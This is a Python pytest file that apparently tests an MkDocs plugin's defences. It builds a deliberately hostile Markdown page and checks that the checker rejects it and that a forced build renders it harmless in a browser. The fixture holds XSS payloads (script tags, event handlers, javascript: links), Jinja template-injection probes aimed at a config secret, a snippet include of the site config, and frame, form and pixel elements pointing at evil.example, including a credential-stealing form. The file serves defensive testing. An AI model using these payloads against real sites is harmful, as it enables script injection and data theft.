"""A page written to attack the site: `imc check` rejects it, and a build forced past the
check (plugin option `enforce_check: false`) still shows it harmless in a real browser.

Defence in depth: the check is the first wall, the sanitiser, the macro sandbox and the CSP
are the others. This test takes the first wall away.
"""
from __future__ import annotations

import json
import re
import os
import shutil
import sys
from pathlib import Path

import pytest

from conftest import assert_safe_page, copy_site_skeleton, run_imc, run_with_deadline, serve_dir
from imc.security import scan_html

FIXTURE = Path(__file__).parent / "fixtures" / "mini"
PAGE = "docs/praktiki/vzlom/index.md"
SECRET = "imc-secret-value-7f3a"  # in mkdocs.yml extra: a template that ran would print it

HOSTILE = """---
title: 'Взлом <script>alert("title")</script> "><img src=x onerror=alert("meta")>'
description: '</title><script>alert("description")</script>'
authors: [ivanova-mp]
organisation: sosh-1
subjects: [russkiy-yazyk]
levels: [ООО]
year: 2024
date: 2024-09-01
render_macros: true
---
## Проблема

Шаблон: {{ config.extra.secret }} и {{ ''.__class__.__mro__ }} и {% for x in range(3) %}R{% endfor %}.

<script>alert("body")</script>

<img src="x" onerror="alert('img')" alt="картинка">

<svg onload="alert('svg')"><circle r="4"/></svg>

[ссылка-js](javascript:alert('link')) и [ссылка-пробел]( javascript:alert('link2'))

<a href=" javascript:alert('a')">ссылка-a</a>

[кнопка](https://example.org){ onclick="alert('attr')" }

<iframe src="https://evil.example/frame"></iframe>

<form action="https://evil.example/steal"><input name="p"></form>

<style>body { background: url(https://evil.example/bg.png) }</style>

![внешняя картинка](https://evil.example/pixel.png)

--8<-- "../mkdocs.yml"

<object data="https://evil.example/x.swf"></object>
"""


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile") / "site"
    shutil.copytree(FIXTURE, root)
    copy_site_skeleton(root)
    page = root / PAGE
    page.parent.mkdir(parents=True)
    page.write_text(HOSTILE, encoding="utf-8")
    cfg = (root / "mkdocs.yml").read_text(encoding="utf-8")
    cfg = cfg.replace("\n  - imc\n", "\n  - imc:\n      enforce_check: false\n", 1)
    cfg += f"\nextra:\n  secret: {SECRET}\n"
    (root / "mkdocs.yml").write_text(cfg, encoding="utf-8")
    return root


def test_check_rejects_every_attack(hostile_site: Path):
    run = run_imc("check", "--format", "json", root=hostile_site)
    assert run.returncode == 1, run.stderr
    problems = [p for p in json.loads(run.stdout) if p["path"] == PAGE and p["severity"] == "error"]
    codes = {p["code"] for p in problems}
    assert {"template", "snippet", "html", "link", "external-image"} <= codes, problems
    text = " ".join(f"{p['field']}: {p['message']}" for p in problems)
    for what in ("<script>", "фрейм", "обработчик", "javascript", "render_macros"):
        assert what in text, (what, text)
    # the title carries markup too: reported at its line
    assert any(p["line"] == 2 for p in problems), problems


def test_forced_build_is_harmless(hostile_site: Path, browser):
    out = hostile_site / "built"
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
    proc = run_with_deadline([sys.executable, "-m", "mkdocs", "build", "-q", "-d", str(out)],
                             "mkdocs build враждебной страницы", 240, cwd=hostile_site, env=env)
    assert proc.returncode == 0, proc.stderr
    html = (out / "praktiki" / "vzlom" / "index.html").read_text(encoding="utf-8")
    assert scan_html(html) == [], scan_html(html)
    assert_safe_page(html, "praktiki/vzlom/index.html")  # and by a reader independent of the engine
    assert SECRET not in html
    assert "evil.example" not in html  # no frame, form, object, picture or style from it
    article = html.split('<div data-pagefind-body>', 1)[1].split("</article>", 1)[0]
    for tag in ("<object", "<form", "<input", "<style", "<svg"):
        assert tag not in article, tag
    assert not re.search(r"<script(?![^>]*application/ld\+json)", article)
    # the title and description reach <title> and <meta> escaped, never as markup
    head = html.split("</head>")[0]
    assert "<script>alert" not in head and "<img src=x" not in head
    # template text is shown as written: the author sees what they typed
    assert "{{ config.extra.secret }}" in html.replace("&#39;", "'")

    server, url = serve_dir(out)
    try:
        context = browser.new_context()
        page = context.new_page()
        dialogs, foreign, errors, missing = [], [], [], []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("request", lambda r: None if r.url.startswith(url) or r.url.startswith("data:")
                else foreign.append(r.url))
        page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
        page.on("response", lambda r: missing.append(r.url) if r.status >= 400 else None)
        page.goto(f"{url}/praktiki/vzlom/", wait_until="networkidle")
        title = page.title()
        page.mouse.click(5, 5)
        for link in page.locator("article a").all():
            try:
                link.click(timeout=500, no_wait_after=True)
            except Exception:
                pass
        page.wait_for_timeout(300)
        context.close()
    finally:
        server.shutdown()
    assert dialogs == [], dialogs
    assert foreign == [], foreign
    assert "Взлом" in title and "script" in title and "alert" in title  # kept as text
    # the only failure is the page's own <img src="x">, a picture that does not exist; no CSP
    # refusal, no script error: nothing hostile got as far as being tried
    assert missing == [f"{url}/praktiki/vzlom/x"], missing
    assert errors == ["Failed to load resource: the server responded with a status of 404 (File not found)"], errors
